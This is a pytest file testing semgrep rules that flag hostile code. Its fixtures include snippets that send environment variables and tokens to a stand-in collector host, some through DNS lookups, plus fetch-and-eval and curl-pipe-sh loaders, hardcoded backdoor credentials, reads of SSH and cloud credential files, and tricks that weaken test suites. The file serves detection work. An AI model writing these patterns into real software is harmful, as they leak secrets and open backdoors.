"""The structural gate's rules (``policies/semgrep/``), case by case.

Each row of ``CASES`` is one small source file: an id, the file's path (its name decides the
language and whether test-only rules apply), its text, and the rule id it must raise, or
``None`` when it is ordinary code on which no rule at all may fire. Every rule has at least one
positive and one negative row per language it covers, written with spellings a regular
expression would miss (aliases, variables in between, f-strings and template literals,
helpers, copies and spreads).

All rows are written under one temporary tree, each in its own folder, and judged by a single
``analyze()`` call with every line added: one engine run for the whole table.
"""

from __future__ import annotations

import textwrap
from pathlib import Path
from typing import NamedTuple

import pytest

from bot.analyzer import Finding, analyze


class Case(NamedTuple):
    id: str
    path: str
    source: str
    rule: str | None  # the rule that must fire; None: no rule may fire


def case(id: str, path: str, source: str, rule: str | None) -> Case:
    return Case(id, path, textwrap.dedent(source).lstrip("\n"), rule)


CASES = [
    # --- env-to-output -------------------------------------------------------------------
    case("env-output-py-wsgi-helper", "svc/wsgi.py", """
        import json
        import os
        def application(environ, start_response):
            extra = {"host": os.uname().nodename, "vars": os.environ.copy()}
            return respond(start_response, "500 Internal Server Error", extra)
        def respond(start_response, status, payload):
            start_response(status, [("Content-Type", "application/json")])
            return [json.dumps(payload).encode()]
        """, "env-to-output-py"),
    case("env-output-py-wsgi-ordinary", "svc/wsgi_ok.py", """
        import os
        def application(environ, start_response):
            region = os.environ.get("REGION", "eu")
            return respond(start_response, "200 OK", {"region": region})
        def child_env():
            env = os.environ.copy()
            env["PYTHONUNBUFFERED"] = "1"
            return env
        """, None),
    case("env-output-py-report-comprehension", "svc/status.py", """
        import os
        def status():
            everything = getattr(os, "environ")
            return {"ok": True, "settings": {name: everything[name] for name in everything}}
        """, "env-to-output-py"),
    case("env-output-js-returned-report", "web/health.js", """
        function health() {
          const started = Date.now();
          return { ok: true, started, config: Object.fromEntries(Object.entries(process.env)) };
        }
        module.exports = { health };
        """, "env-to-output-js"),
    case("env-output-js-child-options", "web/spawn.js", """
        function childOptions(cwd) {
          return { cwd, stdio: "inherit", env: { ...process.env, NODE_ENV: "test" } };
        }
        function settings() {
          return { port: Number(process.env.PORT) || 8080, host: process.env.HOST };
        }
        module.exports = { childOptions, settings };
        """, None),
    case("env-output-py-child-kwargs", "svc/child.py", """
        import os
        def child_kwargs(cwd):
            return {"cwd": cwd, "env": dict(os.environ), "check": True}
        """, None),
    case("env-output-go-deferred-log", "cmd/job/main.go", """
        package main

        import (
        \t"log"
        \t"os"
        )

        func run() {
        \tdefer func() {
        \t\tif r := recover(); r != nil {
        \t\t\tlog.Printf("crashed: %v env=%v", r, os.Environ())
        \t\t}
        \t}()
        }
        """, "env-to-output-go-deferred"),
    case("env-output-go-deferred-ordinary", "cmd/job/close.go", """
        package main

        import (
        \t"log"
        \t"os"
        )

        func save(f *os.File) {
        \tdefer f.Close()
        \tdefer func() { log.Printf("saved %s as %s", f.Name(), os.Getenv("USER")) }()
        }
        """, None),
    case("env-output-go-writer-helper", "cmd/web/vars.go", """
        package main

        import (
        \t"encoding/json"
        \t"net/http"
        \t"os"
        )

        func reply(w http.ResponseWriter, v any) { _ = json.NewEncoder(w).Encode(v) }

        func settings(w http.ResponseWriter, r *http.Request) {
        \tall := os.Environ()
        \treply(w, map[string]any{"settings": all})
        }
        """, "env-to-output-go"),
    case("env-output-py-log-comprehension", "app/debug.py", """
        import logging
        from os import environ as ENV
        log = logging.getLogger(__name__)
        def dump():
            snapshot = {k: v for k, v in ENV.items() if not k.startswith("_")}
            log.info("environment: %s", snapshot)
        """, "env-to-output-py"),
    case("env-output-py-flask-return", "app/views.py", """
        import os
        from flask import Flask
        app = Flask(__name__)
        @app.get("/debug")
        def debug():
            data = dict(os.environ)
            return data
        """, "env-to-output-py"),
    case("env-output-py-exception-fstring", "app/config.py", """
        import os
        def check():
            raise RuntimeError(f"bad configuration: {os.environ.copy()}")
        """, "env-to-output-py"),
    case("env-output-py-file-spread", "app/snapshot.py", """
        import json, os
        def save():
            with open("/tmp/state.json", "w") as fh:
                fh.write(json.dumps({**os.environ}))
        """, "env-to-output-py"),
    case("env-output-py-proc-environ", "app/proc.py", """
        def show():
            text = open("/proc/self/environ").read()
            print(text.replace("\\0", "\\n"))
        """, "env-to-output-py"),
    case("env-output-py-one-variable", "app/settings.py", """
        import logging, os, subprocess
        log = logging.getLogger(__name__)
        def setup():
            home = os.environ["HOME"]
            print("home is", home)
            log.info("CI set: %s", "CI" in os.environ)
            print(os.environ.get("PATH"))
            env = os.environ.copy()
            env["LANG"] = "C"
            subprocess.run(["make"], env=env, check=True)
        """, None),
    case("env-output-py-child-env", "app/child.py", """
        import os, subprocess
        run = subprocess.run(["make"], env={**os.environ, "A": "1"}, capture_output=True,
                             text=True, check=False)
        assert run.returncode == 0, run.stdout
        """, None),
    case("env-output-js-express-spread", "src/debug.js", """
        app.get("/debug", (req, res) => {
          res.json({ ...process.env });
        });
        """, "env-to-output-js"),
    case("env-output-js-destructured", "src/dump.js", """
        const { env } = process;
        function dump() {
          const copy = Object.assign({}, env);
          console.log(`environment: ${JSON.stringify(copy)}`);
        }
        """, "env-to-output-js"),
    case("env-output-ts-entries-file", "src/dump.ts", """
        import * as fs from "fs";
        export function save(): void {
          const pairs = Object.entries(process.env).map(([k, v]) => `${k}=${v}`);
          fs.writeFileSync("/tmp/env.txt", pairs.join("\\n"));
        }
        """, "env-to-output-js"),
    case("env-output-js-one-variable", "src/server.js", """
        const port = process.env.PORT || 3000;
        console.log(`listening on ${port}`, process.env["NODE_ENV"]);
        const child = require("child_process").spawn("ls", [], { env: { ...process.env, X: "1" } });
        """, None),
    case("env-output-js-child-env", "src/child.js", """
        const { execSync } = require("child_process");
        const out = execSync("make", { env: { ...process.env, X: "1" } });
        console.log(out.toString());
        """, None),
    case("env-output-go-encoder", "server/debug.go", """
        package server

        import (
        \t"encoding/json"
        \t"net/http"
        \t"os"
        )

        func Debug(w http.ResponseWriter, r *http.Request) {
        \tenv := os.Environ()
        \tjson.NewEncoder(w).Encode(env)
        }
        """, "env-to-output-go"),
    case("env-output-go-join-fprintf", "server/dump.go", """
        package server

        import (
        \t"fmt"
        \t"net/http"
        \t"os"
        \t"strings"
        )

        func Dump(w http.ResponseWriter, r *http.Request) {
        \tall := strings.Join(os.Environ(), "\\n")
        \tfmt.Fprintf(w, "%s", all)
        }
        """, "env-to-output-go"),
    case("env-output-go-one-variable", "server/home.go", """
        package server

        import (
        \t"fmt"
        \t"net/http"
        \t"os"
        )

        func Home(w http.ResponseWriter, r *http.Request) {
        \thome := os.Getenv("HOME")
        \tfmt.Fprintf(w, "home=%s", home)
        }
        """, None),
    case("env-output-go-child-env", "cmd/child.go", """
        package main

        import (
        \t"fmt"
        \t"os"
        \t"os/exec"
        )

        func main() {
        \tcmd := exec.Command("make")
        \tcmd.Env = append(os.Environ(), "X=1")
        \tout, _ := cmd.Output()
        \tfmt.Println(string(out))
        }
        """, None),
    # --- env-to-network ------------------------------------------------------------------
    case("env-network-py-json-body", "app/report.py", """
        import os, requests
        def report():
            requests.post("https://collector.example/c", json=dict(os.environ))
        """, "env-to-network-py"),
    case("env-network-py-secret-in-url", "app/ping.py", """
        import os, requests
        def ping():
            token = os.environ["GITHUB_TOKEN"]
            requests.get(f"https://collector.example/?t={token}")
        """, "env-to-network-py"),
    case("env-network-py-dns-hostname", "app/resolve.py", """
        import os, socket
        def resolve():
            socket.gethostbyname(f"{os.environ['API_KEY']}.collector.example")
        """, "env-to-network-py"),
    case("env-network-py-session-headers", "app/session.py", """
        import os, requests
        def send():
            with requests.Session() as sess:
                sess.get("https://collector.example", headers={"env": str(os.environ)})
        """, "env-to-network-py"),
    case("env-network-py-auth-header", "app/github.py", """
        import os, requests
        def user():
            token = os.environ["GITHUB_TOKEN"]
            requests.get("https://api.github.com/user",
                         headers={"Authorization": f"token {token}"}, timeout=10)
            requests.get("https://api.example/search", params={"q": os.environ["HOME"]})
        """, None),
    case("env-network-js-fetch-body", "src/report.js", """
        async function report() {
          await fetch("https://collector.example", {
            method: "POST", body: JSON.stringify(process.env) });
        }
        """, "env-to-network-js"),
    case("env-network-js-secret-url", "src/ping.js", """
        async function ping() {
          const t = process.env.NPM_TOKEN;
          await fetch(`https://collector.example/?t=${t}`);
        }
        """, "env-to-network-js"),
    case("env-network-ts-dns", "src/resolve.ts", """
        import * as dns from "dns";
        export function leak(): void {
          const hex = Buffer.from(process.env.AWS_SECRET_ACCESS_KEY ?? "").toString("hex");
          dns.lookup(`${hex}.collector.example`, () => {});
        }
        """, "env-to-network-js"),
    case("env-network-js-auth-header", "src/github.js", """
        async function user() {
          return fetch("https://api.github.com/user", {
            headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` } });
        }
        """, None),
    case("env-network-go-post-environ", "client/report.go", """
        package client

        import (
        \t"net/http"
        \t"os"
        \t"strings"
        )

        func Report() {
        \tbody := strings.NewReader(strings.Join(os.Environ(), ";"))
        \thttp.Post("https://collector.example", "text/plain", body)
        }
        """, "env-to-network-go"),
    case("env-network-go-lookup-secret", "client/lookup.go", """
        package client

        import (
        \t"net"
        \t"os"
        )

        func Lookup() {
        \ttok := os.Getenv("GITHUB_TOKEN")
        \tnet.LookupHost(tok + ".collector.example")
        }
        """, "env-to-network-go"),
    case("env-network-go-auth-header", "client/github.go", """
        package client

        import (
        \t"net/http"
        \t"os"
        )

        func User() (*http.Response, error) {
        \ttok := os.Getenv("GITHUB_TOKEN")
        \treq, _ := http.NewRequest("GET", "https://api.github.com/user", nil)
        \treq.Header.Set("Authorization", "token "+tok)
        \treturn http.DefaultClient.Do(req)
        }
        """, None),
    # --- exec-downloaded -----------------------------------------------------------------
    case("exec-py-requests-exec", "app/update.py", """
        import requests
        def update():
            body = requests.get("https://updates.example/p").text
            exec(body)
        """, "exec-downloaded-py"),
    case("exec-py-socket-pickle", "app/worker.py", """
        import pickle, socket
        def serve(conn: socket.socket):
            data = conn.recv(4096)
            return pickle.loads(data)
        """, "exec-downloaded-py"),
    case("exec-py-base64-compile", "app/plugin.py", """
        import base64
        PAYLOAD = "cHJpbnQoMSk="
        def load():
            code = base64.b64decode(PAYLOAD).decode()
            eval(compile(code, "<p>", "exec"))
        """, "exec-downloaded-py"),
    case("exec-py-written-then-imported", "app/fetch.py", """
        import importlib.util, requests
        def fetch():
            with open("/tmp/m.py", "wb") as fh:
                fh.write(requests.get("https://updates.example/m.py").content)
            spec = importlib.util.spec_from_file_location("m", "/tmp/m.py")
        """, "exec-downloaded-py"),
    case("exec-py-curl-pipe-sh", "app/install.py", """
        import subprocess
        def install():
            subprocess.run("curl -fsSL https://get.example/i.sh | sh", shell=True, check=True)
        """, "exec-downloaded-py"),
    case("exec-py-rot13", "app/obf.py", """
        import codecs
        exec(codecs.decode("cevag(1)", "rot13"))
        """, "exec-downloaded-py"),
    case("exec-py-ordinary", "app/sync.py", """
        import subprocess, requests
        def sync():
            r = requests.get("https://api.example/v1/repo", timeout=10)
            url = r.json()["clone_url"]
            subprocess.run(["git", "clone", url], check=True)
            print(r.json()["name"])
        """, None),
    case("exec-js-fetch-eval", "src/update.js", """
        async function update() {
          const r = await fetch("https://updates.example/p.js");
          const code = await r.text();
          eval(code);
        }
        """, "exec-downloaded-js"),
    case("exec-js-https-function", "src/stream.js", """
        const https = require("https");
        https.get("https://updates.example/s", (res) => {
          let body = "";
          res.on("data", (c) => { body += c; });
          res.on("end", () => { new Function(body)(); });
        });
        """, "exec-downloaded-js"),
    case("exec-js-base64-vm", "src/obf.js", """
        const s = Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString();
        require("vm").runInThisContext(s);
        """, "exec-downloaded-js"),
    case("exec-ts-written-then-required", "src/plugin.ts", """
        import * as fs from "fs";
        import axios from "axios";
        export async function load(): Promise<void> {
          const { data } = await axios.get("https://updates.example/m.js");
          fs.writeFileSync("/tmp/m.js", data);
          require("/tmp/m.js");
        }
        """, "exec-downloaded-js"),
    case("exec-js-ordinary", "src/build.js", """
        const { execSync } = require("child_process");
        const fs = require("fs");
        async function build() {
          execSync("git status");
          const cfg = JSON.parse(fs.readFileSync("config.json", "utf8"));
          const r = await fetch("https://api.example/v1");
          const m = /v(\\d+)/.exec(await r.text());
          return [cfg, m];
        }
        """, None),
    case("exec-go-http-sh", "cmd/update.go", """
        package main

        import (
        \t"io"
        \t"net/http"
        \t"os/exec"
        )

        func update() {
        \tresp, _ := http.Get("https://updates.example/i.sh")
        \tbody, _ := io.ReadAll(resp.Body)
        \texec.Command("sh", "-c", string(body)).Run()
        }
        """, "exec-downloaded-go"),
    case("exec-go-base64-bash", "cmd/obf.go", """
        package main

        import (
        \t"encoding/base64"
        \t"os/exec"
        )

        func run() {
        \tdec, _ := base64.StdEncoding.DecodeString("ZWNobyBoaQ==")
        \texec.Command("bash", "-c", string(dec)).Run()
        }
        """, "exec-downloaded-go"),
    case("exec-go-ordinary", "cmd/status.go", """
        package main

        import (
        \t"io"
        \t"net/http"
        \t"os/exec"
        )

        func status() ([]byte, error) {
        \texec.Command("git", "status").Run()
        \tresp, err := http.Get("https://api.example/v1")
        \tif err != nil {
        \t\treturn nil, err
        \t}
        \treturn io.ReadAll(resp.Body)
        }
        """, None),
    # --- literal-credential-check --------------------------------------------------------
    case("literal-cred-py-module-constant", "svc/backdoor.py", """
        from flask import request

        SUPPORT_OVERRIDE = "sup-4411-override"

        def admin():
            if request.headers.get("X-Support") == SUPPORT_OVERRIDE:
                return "ok"
        """, "literal-credential-check-py"),
    case("literal-cred-js-constant", "web/oncall.js", """
        const BYPASS = "oncall-2291-bypass";
        const FORMAT = "json";
        function gate(req, res, next) {
          if (req.query.format === FORMAT) res.type(FORMAT);
          if (req.get("X-Bypass") === BYPASS) return next();
          res.status(403).end();
        }
        module.exports = { gate };
        """, "literal-credential-check-js"),
    case("literal-cred-js-constant-ordinary", "web/format.js", """
        const FORMAT = "json";
        const LOCALE = "en-gb";
        function negotiate(req, res) {
          if (req.query.format === FORMAT && req.get("Accept-Language") === LOCALE) {
            res.type(FORMAT);
          }
        }
        module.exports = { negotiate };
        """, None),
    case("literal-cred-go-constant", "server/debug.go", """
        package server

        import "net/http"

        const debugKey = "dbg-7781-open"

        func Debug(w http.ResponseWriter, r *http.Request) bool {
        \treturn r.Header.Get("X-Debug") == debugKey
        }
        """, "literal-credential-check-go"),
    case("literal-cred-py-wsgi-header", "svc/admin.py", """
        def application(environ, start_response):
            supplied = environ.get("HTTP_X_MAINTENANCE_KEY", "")
            if supplied == "open-sesame-42":
                return maintenance(start_response)
            return not_found(start_response)
        """, "literal-credential-check-py"),
    case("literal-cred-py-wsgi-ordinary", "svc/router.py", """
        import os
        def application(environ, start_response):
            if environ.get("REQUEST_METHOD") == "POST":
                return create(start_response)
            if environ.get("HTTP_X_API_KEY") == os.environ.get("API_KEY"):
                return admin(start_response)
            proxy = os.environ.get("HTTP_PROXY") == "http://proxy.internal:3128"
            return index(start_response, proxy)
        """, None),
    case("literal-py-flask-header", "app/admin.py", """
        from flask import Flask, request
        app = Flask(__name__)
        @app.route("/admin")
        def admin():
            if request.headers.get("X-Admin-Token") == "s3cr3t-backdoor":
                return "ok"
            return "no"
        """, "literal-credential-check-py"),
    case("literal-py-compare-digest-variable", "app/key.py", """
        import hmac
        from flask import request
        def check():
            key = request.args.get("key", "")
            return hmac.compare_digest(key, "letmein2024")
        """, "literal-credential-check-py"),
    case("literal-py-fastapi-header", "app/api.py", """
        from fastapi import FastAPI, Header
        api = FastAPI()
        @api.get("/x")
        def x(x_key: str = Header(...)):
            if x_key != "hunter2hunter2":
                raise ValueError("no")
            return {}
        """, "literal-credential-check-py"),
    case("literal-py-ordinary", "app/routes.py", """
        import hmac, os
        from flask import Flask, request
        app = Flask(__name__)
        @app.route("/items", methods=["GET", "POST"])
        def items():
            if request.method == "POST" and request.args.get("fmt") == "json":
                return "json"
            if request.cookies.get("beta") == "1":
                return "beta"
            expected = os.environ["API_TOKEN"]
            if hmac.compare_digest(request.headers.get("X-Token", ""), expected):
                return "ok"
            return "no"
        """, None),
    case("literal-js-express-header", "src/auth.js", """
        app.use((req, res, next) => {
          const key = req.headers["x-api-key"];
          if (key === "sk_live_hardcoded_123") return next();
          res.status(401).end();
        });
        """, "literal-credential-check-js"),
    case("literal-ts-timing-safe", "src/auth.ts", """
        import * as crypto from "crypto";
        export function ok(req: any): boolean {
          return crypto.timingSafeEqual(Buffer.from(req.query.k), Buffer.from("opensesame"));
        }
        """, "literal-credential-check-js"),
    case("literal-js-ordinary", "src/routes.js", """
        app.use((req, res, next) => {
          if (req.method === "POST" && req.query.format === "json") return next();
          if (req.get("X-Token") === process.env.TOKEN) return next();
          if (req.headers["content-type"] === "application/json") return next();
          res.status(401).end();
        });
        """, None),
    case("literal-go-header", "server/auth.go", """
        package server

        import "net/http"

        func Auth(w http.ResponseWriter, r *http.Request) bool {
        \treturn r.Header.Get("X-Api-Key") == "sk-backdoor-2024"
        }
        """, "literal-credential-check-go"),
    case("literal-go-constant-time", "server/key.go", """
        package server

        import (
        \t"crypto/subtle"
        \t"net/http"
        )

        func Key(w http.ResponseWriter, r *http.Request) bool {
        \tk := r.URL.Query().Get("key")
        \treturn subtle.ConstantTimeCompare([]byte(k), []byte("opensesame")) == 1
        }
        """, "literal-credential-check-go"),
    case("literal-go-ordinary", "server/routes.go", """
        package server

        import (
        \t"net/http"
        \t"os"
        )

        func Routes(w http.ResponseWriter, r *http.Request) bool {
        \tif r.Method == "POST" && r.URL.Query().Get("format") == "json" {
        \t\treturn true
        \t}
        \treturn r.Header.Get("X-Api-Key") == os.Getenv("API_KEY")
        }
        """, None),
    # --- credential-file-read ------------------------------------------------------------
    case("cred-py-expanduser", "app/keys.py", """
        import os
        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        """, "credential-file-read-py"),
    case("cred-py-path-home-pieces", "app/aws.py", """
        from pathlib import Path
        creds = (Path.home() / ".aws" / "credentials").read_text()
        """, "credential-file-read-py"),
    case("cred-py-split-pieces", "app/split.py", """
        import os
        p = os.path.join(os.environ["HOME"], ".ss" + "h", "id_ed25519")
        data = open(p).read()
        """, "credential-file-read-py"),
    case("cred-py-service-account", "app/k8s.py", """
        TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
        with open(TOKEN) as fh:
            token = fh.read()
        """, "credential-file-read-py"),
    case("cred-py-ordinary", "app/files.py", """
        import os
        from pathlib import Path
        readme = open("README.md").read()
        settings = Path("config/settings.yml").read_text()
        here = os.path.dirname(__file__)
        schema = open(os.path.join(here, "data", "credentials_schema.json")).read()
        """, None),
    case("cred-js-homedir-join", "src/keys.js", """
        const fs = require("fs");
        const os = require("os");
        const path = require("path");
        const k = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
        """, "credential-file-read-js"),
    case("cred-ts-template", "src/npm.ts", """
        import { readFileSync } from "fs";
        import { homedir } from "os";
        export const npmrc = readFileSync(`${homedir()}/.npmrc`, "utf8");
        """, "credential-file-read-js"),
    case("cred-js-ordinary", "src/readme.js", """
        const fs = require("fs");
        const path = require("path");
        const text = fs.readFileSync(path.join(__dirname, "README.md"), "utf8");
        """, None),
    case("cred-go-home-join", "cmd/aws.go", """
        package main

        import (
        \t"os"
        \t"path/filepath"
        )

        func creds() ([]byte, error) {
        \thome, _ := os.UserHomeDir()
        \treturn os.ReadFile(filepath.Join(home, ".aws", "credentials"))
        }
        """, "credential-file-read-go"),
    case("cred-go-proc-environ", "cmd/proc.go", """
        package main

        import "os"

        func env() ([]byte, error) {
        \treturn os.ReadFile("/proc/self/environ")
        }
        """, "credential-file-read-go"),
    case("cred-go-ordinary", "cmd/notes.go", """
        package main

        import (
        \t"os"
        \t"path/filepath"
        )

        func notes() ([]byte, error) {
        \thome, _ := os.UserHomeDir()
        \treturn os.ReadFile(filepath.Join(home, "notes.txt"))
        }
        """, None),
    # --- network-in-tests ----------------------------------------------------------------
    case("net-tests-py-requests-fstring", "tests/test_report.py", """
        import requests
        def test_report():
            base = "https://collector.example"
            requests.post(f"{base}/c", data=b"x")
        """, "network-in-tests-py"),
    case("net-tests-py-dns", "test_resolve.py", """
        import socket
        def test_resolve():
            assert socket.gethostbyname("data.collector.example")
        """, "network-in-tests-py"),
    case("net-tests-py-curl-conftest", "conftest.py", """
        import subprocess
        def pytest_sessionstart(session):
            subprocess.run(["curl", "-s", "https://collector.example"], check=False)
        """, "network-in-tests-py"),
    case("net-tests-py-local", "tests/test_local.py", """
        import requests, socket, subprocess
        def test_local(live_server, port):
            requests.get("http://localhost:8000/health")
            requests.get(f"http://127.0.0.1:{port}/health")
            requests.get(live_server.url + "/x")
            s = socket.socket()
            s.connect(("127.0.0.1", port))
            subprocess.run(["git", "status"])
        """, None),
    case("net-tests-py-outside-tests", "app/client.py", """
        import requests
        def fetch():
            return requests.get("https://api.example/v1", timeout=10)
        """, None),
    case("net-tests-ts-fetch-template", "__tests__/report.test.ts", """
        describe("report", () => {
          it("sends", async () => {
            const base = "https://collector.example";
            await fetch(`${base}/collect`);
          });
        });
        """, "network-in-tests-js"),
    case("net-tests-js-npx", "src/cli.spec.js", """
        const { execSync } = require("child_process");
        test("cli", () => {
          execSync("npx some-package --version");
        });
        """, "network-in-tests-js"),
    case("net-tests-js-local", "test/server.test.js", """
        const axios = require("axios");
        test("health", async () => {
          await axios.get("http://localhost:3000/health");
          await fetch(`http://127.0.0.1:${port}/x`);
          await fetch(server.url + "/x");
        });
        """, None),
    case("net-tests-go-remote", "pkg/client_test.go", """
        package pkg

        import (
        \t"net"
        \t"net/http"
        \t"testing"
        )

        func TestRemote(t *testing.T) {
        \thttp.Get("https://collector.example/x")
        \tnet.LookupHost("data.collector.example")
        }
        """, "network-in-tests-go"),
    case("net-tests-go-local", "pkg/server_test.go", """
        package pkg

        import (
        \t"net"
        \t"net/http"
        \t"net/http/httptest"
        \t"testing"
        )

        func TestLocal(t *testing.T) {
        \tsrv := httptest.NewServer(nil)
        \tdefer srv.Close()
        \thttp.Get(srv.URL + "/ok")
        \thttp.Get("http://localhost:8080/ok")
        \tnet.Dial("tcp", "127.0.0.1:9000")
        }
        """, None),
    # --- test-weakened -------------------------------------------------------------------
    case("weak-py-collect-ignore", "conftest.py", """
        collect_ignore = ["test_security.py"]
        """, "test-weakened-py"),
    case("weak-py-modifyitems", "tests/conftest.py", """
        import pytest
        def pytest_collection_modifyitems(config, items):
            for item in items:
                if "security" in item.name:
                    item.add_marker(pytest.mark.skip(reason="flaky"))
        """, "test-weakened-py"),
    case("weak-py-pytestmark", "tests/test_gate.py", """
        import pytest
        pytestmark = [pytest.mark.skipif(True, reason="later")]
        def test_gate():
            assert True
        """, "test-weakened-py"),
    case("weak-py-ordinary", "tests/test_math.py", """
        import pytest
        pytestmark = pytest.mark.slow
        @pytest.fixture
        def value() -> int:
            return 2
        def test_double(value: int) -> None:
            assert value * 2 == 4
        """, None),
    case("weak-js-only", "__tests__/gate.test.js", """
        describe("gate", () => {
          it.only("passes", () => {});
          it("blocks", () => { expect(1).toBe(1); });
        });
        """, "test-weakened-js"),
    case("weak-ts-vitest-exclude", "vitest.config.ts", """
        export default defineConfig({
          test: {
            exclude: ["**/security/**"],
          },
        });
        """, "test-weakened-js"),
    case("weak-js-ordinary", "__tests__/sum.test.js", """
        describe("sum", () => {
          it("adds", () => { expect(1 + 1).toBe(2); });
        });
        """, None),
    case("weak-go-testmain-no-run", "pkg/main_test.go", """
        package pkg

        import (
        \t"os"
        \t"testing"
        )

        func TestMain(m *testing.M) {
        \tos.Exit(0)
        }
        """, "test-weakened-go"),
    case("weak-go-short-skip", "pkg/slow_test.go", """
        package pkg

        import "testing"

        func TestSlow(t *testing.T) {
        \tif testing.Short() {
        \t\tt.Skip("short mode")
        \t}
        }
        """, "test-weakened-go"),
    case("weak-go-ordinary", "pkg/setup_test.go", """
        package pkg

        import (
        \t"os"
        \t"testing"
        )

        func TestMain(m *testing.M) {
        \tos.Exit(m.Run())
        }

        func TestSum(t *testing.T) {
        \tif 1+1 != 2 {
        \t\tt.Fatal("sum")
        \t}
        }
        """, None),
    case("weak-json-jest-ignore", "package.json", """
        {
          "name": "x",
          "jest": { "testPathIgnorePatterns": ["/security/"] }
        }
        """, "test-weakened-config"),
    case("weak-json-test-or-true", "package.json", """
        {
          "name": "x",
          "scripts": { "test": "jest || true" }
        }
        """, "test-weakened-config"),
    case("weak-json-ordinary", "package.json", """
        {
          "name": "x",
          "scripts": { "test": "jest --coverage", "build": "tsc" }
        }
        """, None),
    case("weak-ini-deselect", "pytest.ini", """
        [pytest]
        addopts = -q --deselect tests/test_security.py::test_gate
        """, "test-weakened-ini"),
    case("weak-toml-ignore", "pyproject.toml", """
        [tool.pytest.ini_options]
        addopts = [
          "-q",
          "--ignore=tests/security",
        ]
        """, "test-weakened-ini"),
    case("weak-ini-ordinary", "setup.cfg", """
        [tool:pytest]
        addopts = -ra --strict-markers
        """, None),
    # --- npm-install-hook ----------------------------------------------------------------
    case("npm-postinstall", "package.json", """
        {
          "name": "x",
          "scripts": { "postinstall": "node scripts/setup.js", "build": "tsc" }
        }
        """, "npm-install-hook"),
    case("npm-prepare", "package.json", """
        {
          "scripts": {
            "prepare": "husky install"
          }
        }
        """, "npm-install-hook"),
    case("npm-ordinary", "package.json", """
        {
          "name": "x",
          "scripts": { "start": "node index.js", "lint": "eslint ." },
          "dependencies": { "express": "^4.19.0" }
        }
        """, None),
]


def case_path(index: int, case: Case) -> str:
    """Each case lives in its own folder, so cases sharing a file name never collide."""
    return f"case{index:03d}/{case.path}"


@pytest.fixture(scope="module")
def findings(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Finding]]:
    """Every case written into one tree and analysed in one run, all lines added."""
    tree = tmp_path_factory.mktemp("analyzer-rules")
    added: dict[str, range] = {}
    for index, item in enumerate(CASES):
        path = case_path(index, item)
        (tree / path).parent.mkdir(parents=True, exist_ok=True)
        (tree / path).write_text(item.source)
        added[path] = range(1, item.source.count("\n") + 2)
    by_path: dict[str, list[Finding]] = {path: [] for path in added}
    for finding in analyze(tree, added):
        by_path[finding.path].append(finding)
    return by_path


@pytest.mark.parametrize("index", range(len(CASES)), ids=[c.id for c in CASES])
def test_rule(findings: dict[str, list[Finding]], index: int) -> None:
    item = CASES[index]
    found = {f.rule for f in findings[case_path(index, item)]}
    if item.rule is None:
        assert found == set(), f"ordinary code raised {sorted(found)}"
    else:
        assert item.rule in found, f"expected {item.rule}, got {sorted(found)}"


def test_every_rule_has_a_positive_and_a_negative_case() -> None:
    rules = {rule["id"] for rule in _rule_files()}
    positives = {c.rule for c in CASES if c.rule is not None}
    assert rules == positives
    negative_languages = {_language(c.path) for c in CASES if c.rule is None}
    assert {_language(c.path) for c in CASES if c.rule is not None} <= negative_languages


def test_messages_are_one_sentence_without_code() -> None:
    for rule in _rule_files():
        message = " ".join(str(rule["message"]).split())
        assert message.endswith(".") and message.count(". ") == 0, rule["id"]
        assert "`" not in message and "'" not in message.replace("'s ", " "), rule["id"]


def test_finding_on_a_line_not_added_is_dropped(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("import os\n\n\nprint(os.environ)\n")
    assert [f.rule for f in analyze(tmp_path, {"app.py": range(1, 5)})] == ["env-to-output-py"]
    assert analyze(tmp_path, {"app.py": [1, 2]}) == []


def _rule_files() -> list[dict[str, object]]:
    import yaml

    from bot.analyzer import RULES_DIR

    rules: list[dict[str, object]] = []
    for file in sorted(RULES_DIR.glob("*.yml")):
        rules.extend(yaml.safe_load(file.read_text())["rules"])
    return rules


def _language(path: str) -> str:
    suffix = Path(path).suffix
    return {".ts": ".js", ".toml": ".ini", ".cfg": ".ini"}.get(suffix, suffix)


ORDINARY_PACKAGES = ("requests", "werkzeug", "click")
MAX_FINDINGS_PER_KLOC = 0.1


def test_findings_on_ordinary_code_are_counted_and_bounded() -> None:
    """Real code nobody here wrote, read as if every line were added: the rules' false alarms,
    printed and bounded (0 in 40,778 lines when written)."""
    import sys
    from importlib.util import find_spec

    lines, found = 0, []
    for name in ORDINARY_PACKAGES:
        spec = find_spec(name)
        assert spec is not None and spec.submodule_search_locations
        root = Path(next(iter(spec.submodule_search_locations)))
        added = {}
        for source in sorted(root.rglob("*.py")):
            count = len(source.read_text(encoding="utf-8", errors="replace").splitlines())
            lines += count
            added[source.relative_to(root).as_posix()] = range(1, count + 1)
        found += [f"{name}/{f.path}:{f.line} {f.rule}" for f in analyze(root, added)]
    print(f"analysis findings on {', '.join(ORDINARY_PACKAGES)}: {len(found)} in {lines} lines",
          *found, sep="\n  ", file=sys.stderr)
    assert lines > 20_000
    assert 1000 * len(found) / lines <= MAX_FINDINGS_PER_KLOC
